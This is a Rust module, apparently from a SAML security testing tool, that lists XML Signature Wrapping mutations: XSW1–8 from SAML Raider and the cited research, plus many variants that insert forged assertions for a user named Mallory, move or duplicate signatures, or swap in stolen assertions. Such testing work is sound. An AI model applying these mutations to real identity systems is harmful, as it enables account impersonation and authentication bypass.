//! Wrapping: what is signed stays somewhere, and something else stands where it is read. Numbers as in SAML Raider and
//! Somorovsky et al. (USENIX Security 2012).

use super::mutations::{MALLORY, Mutation, evil, tree, unsigned};
use super::{edit, inner, outer, uri};

const A: &str = "Response/Assertion";

macro_rules! table {
    ($($name:literal $change:expr;)*) => {
        &[$(Mutation { name: $name, change: $change }),*]
    };
}

/// The evil response: another person, another id, the old signature.
fn evil_response(xml: &mut String) -> Option<String> {
    let original = unsigned(xml)?;
    tree(xml, |t| {
        t.set_attribute("Response", "ID", "_evil_response")?;
        t.set("Response/Assertion/Subject/NameID", MALLORY)?;
        t.set_attribute(A, "ID", "_evil_assertion")
    })?;
    Some(original)
}

fn signed(xml: &str) -> Option<String> {
    outer(xml, &format!("{A}/Signature")).and(outer(xml, A))
}

pub const WRAPPING: &[Mutation] = table! {
    "xsw1" |x, _| { let original = evil_response(x)?; tree(x, |t| t.append("Response/Signature", &original)) };
    "xsw2" |x, _| { let original = evil_response(x)?; tree(x, |t| t.before("Response/Signature", &original)) };
    "xsw3" |x, _| { let evil = evil(&signed(x)?)?; tree(x, |t| t.before(A, &evil)) };
    "xsw4" |x, _| {
        let original = signed(x)?;
        let mut outside = evil(&original)?;
        edit(&mut outside, |t| t.append("Assertion", &original))?;
        tree(x, |t| t.replace(A, &outside))
    };
    "xsw5" |x, _| {
        let original = unsigned(&signed(x)?)?;
        tree(x, |t| {
            t.set(&format!("{A}/Subject/NameID"), MALLORY)?;
            t.set_attribute(A, "ID", "_evil_assertion")?;
            t.append("Response", &original)
        })
    };
    "xsw6" |x, _| {
        let original = unsigned(&signed(x)?)?;
        tree(x, |t| {
            t.set(&format!("{A}/Subject/NameID"), MALLORY)?;
            t.set_attribute(A, "ID", "_evil_assertion")?;
            t.append(&format!("{A}/Signature"), &original)
        })
    };
    "xsw7" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.before("Response/Status", &format!("<samlp:Extensions>{evil}</samlp:Extensions>")))
    };
    "xsw8" |x, _| {
        let original = unsigned(&signed(x)?)?;
        tree(x, |t| {
            t.set(&format!("{A}/Subject/NameID"), MALLORY)?;
            t.set_attribute(A, "ID", "_evil_assertion")?;
            t.append(&format!("{A}/Signature"), &format!("<ds:Object>{original}</ds:Object>"))
        })
    };
    "xsw3 with the same id" |x, _| {
        let original = signed(x)?;
        let mut evil = evil(&original)?;
        let id = super::attribute(&original, "Assertion", "ID")?;
        edit(&mut evil, |t| t.set_attribute("Assertion", "ID", &id))?;
        tree(x, |t| t.before(A, &evil))
    };
    "evil assertion last" |x, _| { let evil = evil(&outer(x, A)?)?; tree(x, |t| t.append("Response", &evil)) };
    "evil assertion after the issuer" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.after("Response/Issuer", &evil))
    };
    "evil assertion in advice" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.after(&format!("{A}/Conditions"), &format!("<saml:Advice>{evil}</saml:Advice>")))
    };
    "evil assertion in status detail" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.append("Response/Status", &format!("<samlp:StatusDetail>{evil}</samlp:StatusDetail>")))
    };
    "evil assertion in an attribute value" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.set(&format!("{A}/AttributeStatement/Attribute/AttributeValue"), &evil))
    };
    "evil assertion in confirmation data" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.append(&format!("{A}/Subject/SubjectConfirmation/SubjectConfirmationData"), &evil))
    };
    "evil assertion in key info" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.append("//KeyInfo", &evil))
    };
    "evil assertion in another namespace" |x, _| {
        let evil = evil(&outer(x, A)?)?.replace(uri::ASSERTION, "urn:oasis:names:tc:SAML:1.0:assertion");
        tree(x, |t| t.before(A, &evil))
    };
    "evil assertion in an element of nobody" |x, _| {
        let evil = evil(&outer(x, A)?)?;
        tree(x, |t| t.before(A, &format!(r#"<x:y xmlns:x="urn:x">{evil}</x:y>"#)))
    };
    "original in a second response" |x, _| {
        let original = signed(x)?;
        let mut whole = x.clone();
        tree(&mut whole, |t| {
            t.set_attribute("Response", "ID", "_second_response")?;
            t.replace(A, &original)
        })?;
        let evil = evil(&original)?;
        tree(x, |t| {
            t.replace(A, &evil)?;
            t.append("Response", &whole)
        })
    };
    "signature in extensions" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.remove(&format!("{A}/Signature"))?;
            t.before("Response/Status", &format!("<samlp:Extensions>{signature}</samlp:Extensions>"))
        })
    };
    "signature in status detail" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.remove(&format!("{A}/Signature"))?;
            t.append("Response/Status", &format!("<samlp:StatusDetail>{signature}</samlp:StatusDetail>"))
        })
    };
    "signature in advice" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.remove(&format!("{A}/Signature"))?;
            t.after(&format!("{A}/Conditions"), &format!("<saml:Advice>{signature}</saml:Advice>"))
        })
    };
    "signature of the assertion on the response" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.remove(&format!("{A}/Signature"))?;
            t.after("Response/Issuer", &signature)
        })
    };
    "signature after the assertion" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.remove(&format!("{A}/Signature"))?;
            t.after(A, &signature)
        })
    };
    "signature last in the assertion" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.remove(&format!("{A}/Signature"))?;
            t.append(A, &signature)
        })
    };
    "signature before the issuer" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.remove(&format!("{A}/Signature"))?;
            t.before(&format!("{A}/Issuer"), &signature)
        })
    };
    "signature twice" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| t.after(&format!("{A}/Signature"), &signature))
    };
    "signature twice, the second empty" |x, _| {
        let signature = outer(x, &format!("{A}/Signature"))?;
        tree(x, |t| {
            t.after(&format!("{A}/Signature"), &signature)?;
            t.set(&format!("{A}/Signature[2]/SignatureValue"), "")
        })
    };
    "bare assertion" |x, _| { *x = signed(x)?; Some(()) };
    "assertion twice" |x, _| { let one = outer(x, A)?; tree(x, |t| t.after(A, &one)) };
    "no assertion" |x, _| tree(x, |t| t.remove(A).map(drop));
    "stolen assertion" |x, w| tree(x, |t| t.replace(A, &w.stolen));
    "stolen assertion first" |x, w| tree(x, |t| t.before(A, &w.stolen));
    "stolen assertion in evil" |x, w| {
        let mut outside = evil(&outer(x, A)?)?;
        edit(&mut outside, |t| t.append("Assertion", &w.stolen))?;
        tree(x, |t| t.replace(A, &outside))
    };
    "second subject in the response" |x, _| {
        let name = inner(x, &format!("{A}/Subject/NameID"))?;
        let subject = outer(x, &format!("{A}/Subject"))?.replacen(&name, MALLORY, 1);
        tree(x, |t| t.before(A, &subject))
    };
    "second attributes in the response" |x, _| {
        let declared = r#"<saml:AttributeStatement xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">"#;
        let statement = outer(x, &format!("{A}/AttributeStatement"))?.replacen("<saml:AttributeStatement>", declared, 1);
        tree(x, |t| t.append("Response", &statement))
    };
    "second subject in the assertion" |x, _| {
        let name = inner(x, &format!("{A}/Subject/NameID"))?;
        let subject = outer(x, &format!("{A}/Subject"))?.replacen(&name, MALLORY, 1);
        tree(x, |t| t.before(&format!("{A}/Subject"), &subject))
    };
    "second issuer" |x, _| {
        let issuer = outer(x, "Response/Issuer")?;
        tree(x, |t| t.after("Response/Issuer", &issuer))
    };
    "second status" |x, _| {
        let status = outer(x, "Response/Status")?;
        tree(x, |t| t.after("Response/Status", &status))
    };
    "response in a SOAP envelope" |x, _| {
        *x = format!(r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>{x}</s:Body></s:Envelope>"#);
        Some(())
    };
    "response in an artifact response" |x, _| {
        *x = format!(r#"<samlp:ArtifactResponse xmlns:samlp="{}" ID="_a" Version="2.0">{x}</samlp:ArtifactResponse>"#, uri::PROTOCOL);
        Some(())
    };
};
